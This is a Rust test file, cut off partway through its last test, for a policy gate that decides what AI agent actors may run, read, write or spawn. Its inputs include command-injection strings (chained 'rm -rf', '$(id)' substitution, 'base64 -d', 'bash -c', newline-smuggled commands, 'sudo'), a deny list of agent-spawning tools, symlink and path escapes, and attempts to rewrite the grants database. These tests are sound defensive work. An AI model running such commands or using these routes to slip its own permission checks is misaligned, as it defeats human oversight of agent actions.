//! `gatehouse::policy::decide`, at library level: every deny code it can
//! produce, asserted by name, against snapshots built here and paths
//! resolved for real on temporary directories.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use serde_json::json;

use gatehouse::config::{resolve_path, HostConfig, StatePaths};
use gatehouse::manifest::Manifest;
use gatehouse::policy::{
    Access, Actor, Capability, ConfigSubject, Decision, DeclaredCapability, DenyCode, ExecutorDef,
    Grant, Identity, Level, Request, RequestKind, ResolvedPath, Roots, Snapshot, UtcTime,
    WorkspaceMode, WorkspaceRoot,
};
use gatehouse::snapshot::protected_paths;

// ---------------------------------------------------------------------------
// helpers

/// The time these decisions are taken at: before every grant's expiry in
/// this file (the expiry tests pass their own time to the core).
const NOW: UtcTime = UtcTime(1_000);

fn decide(s: &Snapshot, r: &Request) -> Decision {
    gatehouse::policy::decide(s, r, NOW)
}

fn decide_json(s: &Snapshot, r: &serde_json::Value) -> Decision {
    gatehouse::policy::decide_json(s, r, NOW)
}

/// The deny code's stable name, or what the decision was instead.
fn code(d: &Decision) -> &'static str {
    match d {
        Decision::Deny { code, .. } => code.as_str(),
        Decision::Allow { .. } => "<allow>",
        Decision::ApprovalRequired { .. } => "<approval_required>",
    }
}

#[track_caller]
fn assert_code(d: &Decision, want: &str) {
    assert_eq!(code(d), want, "{d:?}");
    // The name round-trips through the one enum.
    if let Some(c) = d.code() {
        assert_eq!(DenyCode::from_name(want), Some(c));
        assert!(!d.reason().is_empty());
    }
}

#[track_caller]
fn assert_allow(d: &Decision) {
    assert!(d.is_allow(), "expected allow, got {d:?}");
}

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

fn alice() -> Identity {
    Identity::new("cli", "alice")
}

fn actor_main() -> Actor {
    Actor {
        identity: Some(alice()),
        skills: strings(&["hello"]),
        subagents: strings(&["reviewer"]),
        mcp_servers: vec![],
        delegates_to: strings(&["worker"]),
        memory: strings(&["team"]),
        tools: strings(&["ls", "cat", "git"]),
        workspaces: vec![],
    }
}

fn snapshot(level: Level, actors: Vec<(&str, Actor)>) -> Snapshot {
    Snapshot {
        level,
        actors: actors
            .into_iter()
            .map(|(n, a)| (n.to_string(), a))
            .collect(),
        executors: BTreeMap::new(),
        grants: vec![],
        roots: Roots::default(),
    }
}

fn base() -> Snapshot {
    snapshot(
        Level::Supervised,
        vec![("main", actor_main()), ("worker", Actor::default())],
    )
}

fn req(actor: &str, kind: RequestKind) -> Request {
    Request::new(actor, kind)
}

fn tool(actor: &str, tool: &str, command: Option<&str>) -> Request {
    req(
        actor,
        RequestKind::Tool {
            tool: tool.into(),
            command: command.map(str::to_string),
        },
    )
}

fn cap(actor: &str, name: &str, target: Option<&str>, executor: Option<&str>) -> Request {
    req(
        actor,
        RequestKind::Capability {
            capability: name.parse().unwrap(),
            target: target.map(str::to_string),
            canonical_target: None,
            executor: executor.map(str::to_string),
        },
    )
}

fn ws_req(actor: &str, path: ResolvedPath, access: Access) -> Request {
    req(actor, RequestKind::Workspace { path, access })
}

fn grant(id: i64, capability: &str, target: &str) -> Grant {
    Grant {
        id,
        channel: "cli".into(),
        sender_id: "alice".into(),
        capability: capability.into(),
        target: target.into(),
        granted_at: UtcTime(0),
        expires_at: None,
        granted_by: Some("test".into()),
        revoked_at: None,
    }
}

/// Canonical form of a real path.
fn canon(p: &Path) -> String {
    match resolve_path(p) {
        ResolvedPath::Resolved(s) => s,
        ResolvedPath::Failed { input, reason } => panic!("cannot resolve {input}: {reason}"),
    }
}

fn root(path: &Path, mode: WorkspaceMode) -> WorkspaceRoot {
    WorkspaceRoot {
        path: canon(path),
        mode,
    }
}

/// A snapshot whose actor `main` has `roots`, for a turn in `turn`.
fn ws_snapshot(roots: Vec<WorkspaceRoot>, turn: &Path) -> Snapshot {
    let mut s = base();
    s.actors.get_mut("main").unwrap().workspaces = roots;
    s.roots.turn_workspace = Some(canon(turn));
    s
}

// ---------------------------------------------------------------------------
// the gate: shape and actor

#[test]
fn an_unknown_request_shape_is_unknown_request() {
    let s = base();
    for bad in [
        // missing field
        json!({"kind": "skill", "actor": "main"}),
        json!({"kind": "memory", "actor": "main", "scope": "team"}),
        // missing actor / kind
        json!({"kind": "skill", "skill": "hello"}),
        json!({"actor": "main", "skill": "hello"}),
        // unknown kind
        json!({"kind": "teleport", "actor": "main"}),
        json!({"kind": "Skill", "actor": "main", "skill": "hello"}),
        // extra field
        json!({"kind": "skill", "actor": "main", "skill": "hello", "extra": 1}),
        json!({"kind": "capability", "actor": "main", "capability": "fs:read", "target": "/x", "level": "Full"}),
        // wrong types and values
        json!({"kind": "skill", "actor": "main", "skill": 7}),
        json!({"kind": "memory", "actor": "main", "scope": "team", "access": "delete"}),
        json!({"kind": "configuration", "actor": "main", "subject": "grants", "what": "x"}),
        // not an object at all
        json!("skill"),
        json!(["skill", "main"]),
        json!(null),
    ] {
        let d = decide_json(&s, &bad);
        assert_code(&d, "UNKNOWN_REQUEST");
        assert!(d.reason().contains("no known shape"), "{bad}: {d:?}");
    }
    // Well-formed JSON with an empty or control-character field.
    for bad in [
        json!({"kind": "skill", "actor": "", "skill": "hello"}),
        json!({"kind": "skill", "actor": "main", "skill": ""}),
        json!({"kind": "skill", "actor": "ma\nin", "skill": "hello"}),
        json!({"kind": "tool", "actor": "main", "tool": ""}),
    ] {
        assert_code(&decide_json(&s, &bad), "UNKNOWN_REQUEST");
    }
    // The shape is checked before the actor: an empty field of an unknown
    // actor is still UNKNOWN_REQUEST.
    assert_code(
        &decide(&s, &req("ghost", RequestKind::Skill { skill: "".into() })),
        "UNKNOWN_REQUEST",
    );
    // The same request well formed is decided normally.
    assert_allow(&decide_json(
        &s,
        &json!({"kind": "skill", "actor": "main", "skill": "hello"}),
    ));
    // A tool named like MCP but not `mcp__<server>__<tool>`.
    for t in ["mcp__github", "mcp__github__", "mcp____x"] {
        assert_code(&decide(&s, &tool("main", t, None)), "UNKNOWN_REQUEST");
    }
    // A capability request naming an executor that is not defined.
    assert_code(
        &decide(&s, &cap("main", "fs:read", Some("/x"), Some("nope"))),
        "UNKNOWN_REQUEST",
    );
}

#[test]
fn an_unknown_actor_is_unknown_actor_for_every_kind() {
    let s = base();
    let kinds = [
        RequestKind::Delegation {
            target: "worker".into(),
        },
        RequestKind::Memory {
            scope: "team".into(),
            access: Access::Read,
        },
        RequestKind::Workspace {
            path: ResolvedPath::Resolved("/tmp".into()),
            access: Access::Read,
        },
        RequestKind::Configuration {
            subject: ConfigSubject::Policy,
            what: "x".into(),
        },
        RequestKind::Tool {
            tool: "ls".into(),
            command: None,
        },
        RequestKind::Skill {
            skill: "hello".into(),
        },
        RequestKind::Subagent {
            subagent: "reviewer".into(),
        },
        RequestKind::Mcp {
            server: "github".into(),
        },
        RequestKind::Capability {
            capability: Capability::ComputePure,
            target: None,
            canonical_target: None,
            executor: None,
        },
    ];
    for kind in kinds {
        let d = decide(&s, &req("nobody", kind.clone()));
        assert_code(&d, "UNKNOWN_ACTOR");
        assert!(d.reason().contains("`nobody`"), "{d:?}");
    }
    // Actor names are exact.
    assert_code(
        &decide_json(
            &s,
            &json!({"kind": "skill", "actor": "Main", "skill": "hello"}),
        ),
        "UNKNOWN_ACTOR",
    );
}

// ---------------------------------------------------------------------------
// delegation, memory, skill, subagent, mcp

#[test]
fn delegation() {
    let s = base();
    let d = |target: &str| {
        decide(
            &s,
            &req(
                "main",
                RequestKind::Delegation {
                    target: target.into(),
                },
            ),
        )
    };
    assert_allow(&d("worker"));
    assert_code(&d("ghost"), "UNKNOWN_TARGET");
    assert_code(&d("main"), "DELEGATION_NOT_ALLOWED");
    assert_code(
        &decide(
            &s,
            &req(
                "worker",
                RequestKind::Delegation {
                    target: "main".into(),
                },
            ),
        ),
        "DELEGATION_NOT_ALLOWED",
    );
}

#[test]
fn memory() {
    let s = base();
    let m = |actor: &str, scope: &str, access| {
        decide(
            &s,
            &req(
                actor,
                RequestKind::Memory {
                    scope: scope.into(),
                    access,
                },
            ),
        )
    };
    assert_allow(&m("main", "team", Access::Write));
    assert_allow(&m("main", "private:main", Access::Write));
    assert_code(
        &m("main", "private:worker", Access::Read),
        "PRIVATE_MEMORY_DENIED",
    );
    assert_code(
        &m("main", "private:ghost", Access::Read),
        "PRIVATE_MEMORY_DENIED",
    );
    assert_code(&m("main", "other", Access::Read), "MEMORY_NOT_GRANTED");
    assert_code(&m("worker", "team", Access::Read), "MEMORY_NOT_GRANTED");
}

#[test]
fn skill_subagent_and_mcp_kinds() {
    let mut s = base();
    let k = |s: &Snapshot, actor: &str, kind| decide(s, &req(actor, kind));
    let skill = |n: &str| RequestKind::Skill { skill: n.into() };
    let sub = |n: &str| RequestKind::Subagent { subagent: n.into() };
    let mcp = |n: &str| RequestKind::Mcp { server: n.into() };
    assert_allow(&k(&s, "main", skill("hello")));
    assert_code(&k(&s, "main", skill("rm-rf")), "SKILL_NOT_GRANTED");
    assert_code(&k(&s, "worker", skill("hello")), "SKILL_NOT_GRANTED");
    assert_allow(&k(&s, "main", sub("reviewer")));
    assert_code(&k(&s, "main", sub("coder")), "SUBAGENT_NOT_GRANTED");
    assert_code(&k(&s, "main", mcp("github")), "MCP_SERVER_NOT_GRANTED");
    s.actors.get_mut("main").unwrap().mcp_servers = strings(&["github"]);
    assert_allow(&k(&s, "main", mcp("github")));
    // `*` means any executor, but only for skills.
    let w = s.actors.get_mut("worker").unwrap();
    w.skills = strings(&["*"]);
    w.subagents = strings(&["*"]);
    w.mcp_servers = strings(&["*"]);
    assert_allow(&k(&s, "worker", skill("anything")));
    assert_code(&k(&s, "worker", sub("coder")), "SUBAGENT_NOT_GRANTED");
    assert_code(&k(&s, "worker", mcp("github")), "MCP_SERVER_NOT_GRANTED");
}

// ---------------------------------------------------------------------------
// tool: the four layers

#[test]
fn raw_runtime_tools_are_denied_by_name_and_inside_commands() {
    let mut s = base();
    // Even granting them as tools does not help: layer 1 comes first.
    s.actors.get_mut("main").unwrap().tools =
        strings(&["ls", "env", "shell", "herdr", "spawn_agent", "sudo"]);
    for (t, c) in [
        ("shell", Some("ls; herdr run")),
        ("shell", Some("/usr/bin/env FOO=1 spawn_agent")),
        ("ls", Some("ls && paseo start")),
        ("shell", Some("ls | create_agent --x")),
        ("shell", Some("sudo -u root /opt/bin/herdr")),
        ("shell", Some("echo 'unterminated; spawn_agent")),
        ("herdr", None),
        ("spawn_agent", Some("spawn_agent")),
        ("/usr/local/bin/paseo", None),
        ("create_agent", None),
    ] {
        let d = decide(&s, &tool("main", t, c));
        assert_code(&d, "RAW_RUNTIME_TOOL_DENIED");
    }
    let d = decide(
        &s,
        &tool("main", "shell", Some("/usr/bin/env FOO=1 spawn_agent")),
    );
    assert!(d.reason().contains("`spawn_agent`"), "{d:?}");
    // A mention as an argument is not an invocation.
    assert_allow(&decide(&s, &tool("main", "ls", Some("ls herdr"))));
}

#[test]
fn indirect_commands_are_refused_not_parsed() {
    let mut s = base();
    // Every program involved is granted: the refusal is about indirection.
    s.actors.get_mut("main").unwrap().tools = strings(&[
        "shell", "echo", "bash", "sh", "python", "python3", "find", "xargs", "rm", "base64", "xxd",
        "eval", "node", "perl", "ruby", "env", "diff", "ls", "id",
    ]);
    for c in [
        "echo $(id)",
        "echo `id`",
        "bash -c 'ls'",
        "sh -c ls",
        "bash -ec 'ls'",
        "python -c 'print(1)'",
        "python3 -c 'print(1)'",
        "find . | xargs rm",
        "echo aGk= | base64 -d",
        "xxd -r -p blob",
        "eval ls",
        "diff <(ls a) <(ls b)",
        "node -e 1",
        "perl -e 'print 1'",
        "ruby -e 1",
        "env -S 'ls -l'",
        "ls; echo \"$(id)\"",
        "echo 'unterminated",
    ] {
        assert_code(
            &decide(&s, &tool("main", "shell", Some(c))),
            "INDIRECT_TOOL_REQUEST",
        );
    }
    // Ordinary commands of granted programs pass.
    for c in [
        "ls -la",
        "bash script.sh",
        "python3 tool.py --count 3",
        "echo hi | cat",
    ] {
        let mut s2 = s.clone();
        s2.actors.get_mut("main").unwrap().tools.push("cat".into());
        assert_allow(&decide(&s2, &tool("main", "shell", Some(c))));
    }
}

#[test]
fn mcp_tools_need_their_server() {
    let mut s = base();
    let t = tool("main", "mcp__github__create_issue", None);
    let d = decide(&s, &t);
    assert_code(&d, "MCP_SERVER_NOT_GRANTED");
    assert!(d.reason().contains("`github`"), "{d:?}");
    s.actors.get_mut("main").unwrap().mcp_servers = strings(&["github"]);
    assert_allow(&decide(&s, &t));
    // Another server is still not granted.
    assert_code(
        &decide(&s, &tool("main", "mcp__gitlab__create_issue", None)),
        "MCP_SERVER_NOT_GRANTED",
    );
    // The layers before it still apply to an MCP tool's command.
    assert_code(
        &decide(
            &s,
            &tool("main", "mcp__github__create_issue", Some("echo $(id)")),
        ),
        "INDIRECT_TOOL_REQUEST",
    );
}

#[test]
fn tools_and_every_program_of_a_command_must_be_granted() {
    let mut s = base();
    s.actors.get_mut("main").unwrap().tools = strings(&["ls"]);
    assert_allow(&decide(&s, &tool("main", "ls", None)));
    assert_allow(&decide(&s, &tool("main", "ls", Some("ls -la"))));
    assert_allow(&decide(
        &s,
        &tool("main", "ls", Some("LC_ALL=C env -u X ls -la")),
    ));
    // Only variables that cannot change what runs may be set (issue 12).
    assert_code(
        &decide(&s, &tool("main", "ls", Some("FOO=1 env -u X ls -la"))),
        "INDIRECT_TOOL_REQUEST",
    );
    assert_allow(&decide(&s, &tool("main", "ls", Some("/bin/ls -la"))));
    let d = decide(&s, &tool("main", "ls", Some("ls; rm -rf x")));
    assert_code(&d, "TOOL_NOT_GRANTED");
    assert!(d.reason().contains("`rm`"), "{d:?}");
    for c in [
        "ls && rm -rf x",
        "ls || rm -rf x",
        "ls | rm -rf x",
        "ls & rm x",
        "sudo ls",
        "command nice -n 5 rm x",
    ] {
        assert_code(
            &decide(&s, &tool("main", "ls", Some(c))),
            "TOOL_NOT_GRANTED",
        );
    }
    // A newline is a control character: refused before any program is
    // looked at (issue 12, item 5).
    assert_code(
        &decide(&s, &tool("main", "ls", Some("ls\nrm x"))),
        "INDIRECT_TOOL_REQUEST",
    );
    assert_code(&decide(&s, &tool("main", "rm", None)), "TOOL_NOT_GRANTED");
    assert_code(&decide(&s, &tool("worker", "ls", None)), "TOOL_NOT_GRANTED");
    // A tool granted by full path matches that path only.
    s.actors.get_mut("main").unwrap().tools = strings(&["/usr/bin/git"]);
    assert_allow(&decide(
        &s,
        &tool("main", "/usr/bin/git", Some("/usr/bin/git status")),
    ));
    assert_code(
        &decide(&s, &tool("main", "/usr/bin/git", Some("/tmp/git status"))),
        "TOOL_NOT_GRANTED",
    );
    assert_code(&decide(&s, &tool("main", "git", None)), "TOOL_NOT_GRANTED");
}

// ---------------------------------------------------------------------------
// workspace: canonicalize, then compare

#[test]
fn a_symlink_out_of_the_workspace_is_not_granted() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(ws.join("real")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret"), "s").unwrap();
    std::os::unix::fs::symlink(&outside, ws.join("link")).unwrap();

    let through_link = resolve_path(&ws.join("link/secret"));
    assert_eq!(
        through_link,
        ResolvedPath::Resolved(canon(&outside.join("secret")))
    );

    // The actor's only root is the workspace: the link's target is under
    // none of its roots.
    let s = ws_snapshot(vec![root(&ws, WorkspaceMode::ReadWrite)], &ws);
    for access in [Access::Read, Access::Write] {
        assert_code(
            &decide(&s, &ws_req("main", through_link.clone(), access)),
            "WORKSPACE_NOT_GRANTED",
        );
    }
    // A new file through the link (parent resolved, name joined) too.
    assert_code(
        &decide(
            &s,
            &ws_req(
                "main",
                resolve_path(&ws.join("link/new.txt")),
                Access::Write,
            ),
        ),
        "WORKSPACE_NOT_GRANTED",
    );
    // The same file reached without the link is inside.
    assert_allow(&decide(
        &s,
        &ws_req("main", resolve_path(&ws.join("real/file")), Access::Write),
    ));

    // An actor root that contains both: the link's target is under that
    // root but outside this turn's workspace.
    let s = ws_snapshot(vec![root(tmp.path(), WorkspaceMode::ReadWrite)], &ws);
    assert_code(
        &decide(&s, &ws_req("main", through_link.clone(), Access::Read)),
        "WORKSPACE_SCOPE_MISMATCH",
    );
    assert_allow(&decide(
        &s,
        &ws_req("main", resolve_path(&ws.join("real/file")), Access::Read),
    ));
    // A symlink that stays inside is fine: what counts is where it lands.
    std::os::unix::fs::symlink(ws.join("real"), ws.join("inner")).unwrap();
    assert_eq!(
        resolve_path(&ws.join("inner/file")),
        ResolvedPath::Resolved(canon(&ws.join("real/file")))
    );
}

#[test]
fn prefix_lookalikes_are_outside() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    let sibling = tmp.path().join("ws-evil");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::create_dir_all(&sibling).unwrap();
    let s = ws_snapshot(vec![root(&ws, WorkspaceMode::ReadWrite)], &ws);
    assert_code(
        &decide(
            &s,
            &ws_req("main", resolve_path(&sibling.join("x")), Access::Read),
        ),
        "WORKSPACE_NOT_GRANTED",
    );
    // `..` is resolved away before comparison.
    assert_code(
        &decide(
            &s,
            &ws_req("main", resolve_path(&ws.join("../ws-evil/x")), Access::Read),
        ),
        "WORKSPACE_NOT_GRANTED",
    );
}

#[test]
fn a_write_to_a_read_only_workspace_is_read_only() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    let docs = ws.join("docs");
    let docs_drafts = docs.join("drafts");
    std::fs::create_dir_all(&docs_drafts).unwrap();
    std::fs::write(docs.join("a.md"), "a").unwrap();

    let s = ws_snapshot(vec![root(&ws, WorkspaceMode::ReadOnly)], &ws);
    let file = resolve_path(&docs.join("a.md"));
    assert_allow(&decide(&s, &ws_req("main", file.clone(), Access::Read)));
    let d = decide(&s, &ws_req("main", file.clone(), Access::Write));
    assert_code(&d, "WORKSPACE_READ_ONLY");
    assert!(d.reason().contains("read-only"), "{d:?}");
    assert_code(
        &decide(
            &s,
            &ws_req("main", resolve_path(&ws.join("new.txt")), Access::Write),
        ),
        "WORKSPACE_READ_ONLY",
    );

    // The most specific root decides: read-only inside read-write ...
    let s = ws_snapshot(
        vec![
            root(&ws, WorkspaceMode::ReadWrite),
            root(&docs, WorkspaceMode::ReadOnly),
        ],
        &ws,
    );
    assert_code(
        &decide(&s, &ws_req("main", file.clone(), Access::Write)),
        "WORKSPACE_READ_ONLY",
    );
    assert_allow(&decide(
        &s,
        &ws_req("main", resolve_path(&ws.join("b.txt")), Access::Write),
    ));
    // ... and read-write inside read-only.
    let s = ws_snapshot(
        vec![
            root(&docs_drafts, WorkspaceMode::ReadWrite),
            root(&ws, WorkspaceMode::ReadOnly),
        ],
        &ws,
    );
    assert_allow(&decide(
        &s,
        &ws_req(
            "main",
            resolve_path(&docs_drafts.join("d.md")),
            Access::Write,
        ),
    ));
    assert_code(
        &decide(&s, &ws_req("main", file, Access::Write)),
        "WORKSPACE_READ_ONLY",
    );
}

#[test]
fn an_unresolvable_path_is_path_resolution_failed() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let s = ws_snapshot(vec![root(&ws, WorkspaceMode::ReadWrite)], &ws);
    let missing = resolve_path(&ws.join("no/such/file"));
    assert!(
        matches!(missing, ResolvedPath::Failed { .. }),
        "{missing:?}"
    );
    assert_code(
        &decide(&s, &ws_req("main", missing, Access::Read)),
        "PATH_RESOLUTION_FAILED",
    );
    assert_code(
        &decide(
            &s,
            &ws_req("main", resolve_path(&ws.join("new/..")), Access::Write),
        ),
        "PATH_RESOLUTION_FAILED",
    );
    // A "resolved" path that is not absolute is not canonical.
    assert_code(
        &decide(
            &s,
            &ws_req("main", ResolvedPath::Resolved("ws/a".into()), Access::Read),
        ),
        "PATH_RESOLUTION_FAILED",
    );
}

// ---------------------------------------------------------------------------
// configuration: never writable, even inside a read-write root

/// A read-write workspace that contains the host's own state.
struct HostInWorkspace {
    tmp: tempfile::TempDir,
    ws: PathBuf,
}

impl HostInWorkspace {
    fn new() -> HostInWorkspace {
        let tmp = tempfile::tempdir().unwrap();
        let ws = tmp.path().canonicalize().unwrap().join("ws");
        std::fs::create_dir_all(&ws).unwrap();
        HostInWorkspace { tmp, ws }
    }

    fn snapshot(
        &self,
        config: &HostConfig,
        state: &StatePaths,
        manifests: &[Manifest],
    ) -> Snapshot {
        let mut s = ws_snapshot(vec![root(&self.ws, WorkspaceMode::ReadWrite)], &self.ws);
        s.roots.protected = protected_paths(config, state, manifests);
        s
    }

    fn write(&self, s: &Snapshot, rel: &str) -> Decision {
        decide(
            s,
            &ws_req("main", resolve_path(&self.ws.join(rel)), Access::Write),
        )
    }
}

#[test]
fn a_write_to_the_grants_database_in_a_workspace_is_policy_mutation() {
    let h = HostInWorkspace::new();
    let state_dir = h.ws.join("state");
    std::fs::create_dir_all(state_dir.join("history")).unwrap();
    std::fs::write(state_dir.join("grants.db"), "").unwrap();
    let state = StatePaths::under(&state_dir, None, None);
    let s = h.snapshot(&HostConfig::safe_default("alice"), &state, &[]);

    for rel in [
        "state/grants.db",
        "state/grants.db-wal",
        "state/grants.db-shm",
        "state/grants.db-journal",
        "state/history",
        "state/history/turn-1",
        "state/cache",
        "state",
    ] {
        let d = h.write(&s, rel);
        assert_code(&d, "POLICY_MUTATION_DENIED");
    }
    // Writing elsewhere in the workspace stays allowed.
    assert_allow(&h.write(&s, "notes.txt"));
}

#[test]
fn a_grants_database_outside_the_state_dir_is_protected_with_its_wal() {
    let h = HostInWorkspace::new();
    std::fs::create_dir_all(h.ws.join("db")).unwrap();
    let state = StatePaths::under(
        &h.ws.join("elsewhere/state"),
        Some(h.ws.join("db/grants.db")),
        None,
    );
    let s = h.snapshot(&HostConfig::safe_default("alice"), &state, &[]);
    for rel in ["db/grants.db", "db/grants.db-wal", "db/grants.db-shm"] {
        assert_code(&h.write(&s, rel), "POLICY_MUTATION_DENIED");
    }
    // Neighbours of the database are ordinary files.
    assert_allow(&h.write(&s, "db/notes.txt"));
}

#[test]
fn a_state_dir_that_does_not_exist_yet_is_protected() {
    let h = HostInWorkspace::new();
    let state = StatePaths::under(&h.ws.join("future-state"), None, None);
    assert!(!state.state_dir.exists());
    let s = h.snapshot(&HostConfig::safe_default("alice"), &state, &[]);
    // Creating the directory itself is a policy mutation ...
    assert_code(&h.write(&s, "future-state"), "POLICY_MUTATION_DENIED");
    // ... and paths below it cannot even be resolved yet.
    assert_code(
        &h.write(&s, "future-state/grants.db"),
        "PATH_RESOLUTION_FAILED",
    );
    // Once it exists, everything inside is protected.
    std::fs::create_dir_all(&state.state_dir).unwrap();
    assert_code(
        &h.write(&s, "future-state/grants.db"),
        "POLICY_MUTATION_DENIED",
    );
    assert_code(
        &h.write(&s, "future-state/grants.db-wal"),
        "POLICY_MUTATION_DENIED",
    );
}

#[test]
fn config_file_manifests_and_executor_dirs_are_protected() {
    let h = HostInWorkspace::new();
    let config_path = h.ws.join("gatehouse.toml");
    let text = "executor_dirs = [\"execs\"]\n[actors.main]\n";
    std::fs::write(&config_path, text).unwrap();
    let config = HostConfig::parse(&config_path, text, None).unwrap();
    let hello = h.ws.join("execs/hello");
    std::fs::create_dir_all(&hello).unwrap();
    std::fs::write(hello.join("hello.wasm"), "bytes").unwrap();
    let manifest_path = h.ws.join("loose/executor.toml");
    std::fs::create_dir_all(manifest_path.parent().unwrap()).unwrap();
    std::fs::write(
        &manifest_path,
        "name = \"loose\"\ncomponent = \"loose.wasm\"\n",
    )
    .unwrap();
    let manifest = Manifest::load(&manifest_path).unwrap();
    let state = StatePaths::under(&h.tmp.path().join("state"), None, None);
    let s = h.snapshot(&config, &state, &[manifest]);

    assert_code(&h.write(&s, "gatehouse.toml"), "POLICY_MUTATION_DENIED");
    for rel in [
        "loose/executor.toml",
        "loose/loose.wasm",
        "execs",
        "execs/hello/hello.wasm",
        "execs/new-executor.toml",
    ] {
        assert_code(&h.write(&s, rel), "DEFINITION_MUTATION_DENIED");
    }
    assert_allow(&h.write(&s, "loose/readme.txt"));

    // The configuration kind is denied outright, whatever it names.
    for (subject, want) in [
        (ConfigSubject::Policy, "POLICY_MUTATION_DENIED"),
        (ConfigSubject::Definition, "DEFINITION_MUTATION_DENIED"),
    ] {
        let d = decide(
            &s,
            &req(
                "main",
                RequestKind::Configuration {
                    subject,
                    what: "actors.main.skills".into(),
                },
            ),
        );
        assert_code(&d, want);
    }
}

// ---------------------------------------------------------------------------
// capability: matrix + grants + declared scope

#[test]
fn capability_requests() {
    let mut s = base();
    let d = |s: &Snapshot, name: &str, target: Option<&str>| {
        decide(s, &cap("main", name, target, None))
    };
    // A name outside the registry can only come as JSON: the host's own
    // requests carry a `Capability`.
    let named = |actor: &str, name: &str| {
        decide_json(
            &s,
            &json!({"kind": "capability", "actor": actor, "capability": name, "target": "/x"}),
        )
    };
    let unknown = named("main", "fs:delete");
    assert_code(&unknown, "CAPABILITY_UNKNOWN");
    assert_eq!(unknown.reason(), "`fs:delete` is not in the registry");
    assert_code(&named("main", "FS:READ"), "CAPABILITY_UNKNOWN");
    // The shape and the actor are checked first, as for every request.
    assert_code(&named("main", ""), "UNKNOWN_REQUEST");
    assert_code(&named("main", "fs:\u{7}"), "UNKNOWN_REQUEST");
    assert_code(&named("ghost", "fs:delete"), "UNKNOWN_ACTOR");
    assert_code(&d(&s, "fs:read", Some("relative/x")), "TARGET_MISMATCH");
    assert_code(&d(&s, "fs:read", None), "TARGET_MISMATCH");
    assert_code(&d(&s, "time:read", Some("now")), "TARGET_MISMATCH");
    assert_code(
        &d(&s, "network:sites", Some("/etc/hosts")),
        "TARGET_MISMATCH",
    );
    assert_code(&d(&s, "env:read", Some("HO*")), "TARGET_MISMATCH");
    assert_allow(&d(&s, "time:read", None));

    // Supervised: a write needs an approval, until a grant covers it.
    match d(&s, "fs:write", Some("/tmp/x/a")) {
        Decision::ApprovalRequired {
            capability, target, ..
        } => {
            assert_eq!(capability, Capability::FsWrite);
            assert_eq!(target.as_deref(), Some("/tmp/x/a"));
        }
        other => panic!("{other:?}"),
    }
    s.grants = vec![grant(1, "fs:write", "/tmp/x/**")];
    assert_allow(&d(&s, "fs:write", Some("/tmp/x/a")));
    assert_eq!(
        d(&s, "fs:write", Some("/tmp/y/a")).outcome(),
        gatehouse::policy::Outcome::ApprovalRequired
    );
    // Another actor's identity does not match alice's grant.
    let mut w = s.clone();
    w.actors.get_mut("worker").unwrap().identity = Some(Identity::new("cli", "bob"));
    assert_eq!(
        decide(&w, &cap("worker", "fs:write", Some("/tmp/x/a"), None)).outcome(),
        gatehouse::policy::Outcome::ApprovalRequired
    );

    // ReadOnly denies a write even with a covering grant in the snapshot.
    s.level = Level::ReadOnly;
    let denied = d(&s, "fs:write", Some("/tmp/x/a"));
    assert_code(&denied, "CAPABILITY_DENIED");

    // Full: code:exec stays approval-required even with a hand-made grant.
    s.level = Level::Full;
    s.grants = vec![grant(2, "code:exec", "ls"), grant(3, "system:admin", "*")];
    match d(&s, "code:exec", Some("ls")) {
        Decision::ApprovalRequired {
            capability, target, ..
        } => {
            assert_eq!(capability, Capability::CodeExec);
            assert_eq!(target.as_deref(), Some("ls"));
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        d(&s, "system:admin", None).outcome(),
        gatehouse::policy::Outcome::ApprovalRequired
    );
    assert_allow(&d(&s, "fs:write", Some("/anything")));
}

#[test]
fn a_request_outside_what_the_executor_declares_is_target_mismatch() {
    let mut s = base();
    s.executors.insert(
        "writer".into(),
        ExecutorDef {
            component: "/x/writer.wasm".into(),
            command: vec![],
            sha256: None,
            capabilities: vec![
                DeclaredCapability {
                    capability: Capability::FsWrite,
                    target: Some("/ws/out/**".into()),
                    mount: None,
                    methods: None,
                },
                DeclaredCapability {
                    capability: Capability::TimeRead,
                    target: None,
                    mount: None,
                    methods: None,
                },
            ],
            revertible: false,
            reverse_pattern: None,
            tools: vec![],
        },
    );
    let d = |s: &Snapshot, name: &str, target: Option<&str>| {
        decide(s, &cap("main", name, target, Some("writer")))
    };
    assert_eq!(
        d(&s, "fs:write", Some("/ws/out/a.txt")).outcome(),
        gatehouse::policy::Outcome::ApprovalRequired
    );
    // A narrower pattern within the declared one is covered too.
    assert_eq!(
        d(&s, "fs:write", Some("/ws/out/sub/**")).outcome(),
        gatehouse::policy::Outcome::ApprovalRequired
    );
    assert_allow(&d(&s, "time:read", None));
    for (name, target) in [
        ("fs:write", Some("/ws/other/a.txt")),
        ("fs:write", Some("/ws/**")),
        ("fs:write", Some("/ws/outside")),
        ("fs:read", Some("/ws/out/a.txt")),
        ("network:sites", Some("example.com")),
    ] {
        let dec = d(&s, name, target);
        assert_code(&dec, "TARGET_MISMATCH");
        assert!(dec.reason().contains("`writer`"), "{dec:?}");
    }
    // A grant does not widen what the executor declared.
    s.grants = vec![grant(1, "fs:write", "/ws/**")];
    assert_code(
        &d(&s, "fs:write", Some("/ws/other/a.txt")),
        "TARGET_MISMATCH",
    );
    assert_allow(&d(&s, "fs:write", Some("/ws/out/a.txt")));
}

// ---------------------------------------------------------------------------
// completeness: every code `decide` can produce, by name

#[test]
fn every_code_decide_produces_is_exercised() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().canonicalize().unwrap().join("ws");
    let ro = ws.join("ro");
    let other = tmp.path().canonicalize().unwrap().join("other");
    std::fs::create_dir_all(&ro).unwrap();
    std::fs::create_dir_all(&other).unwrap();
    let state = StatePaths::under(&ws.join("state"), None, None);
    let mut s = ws_snapshot(
        vec![
            root(&ws, WorkspaceMode::ReadWrite),
            root(&ro, WorkspaceMode::ReadOnly),
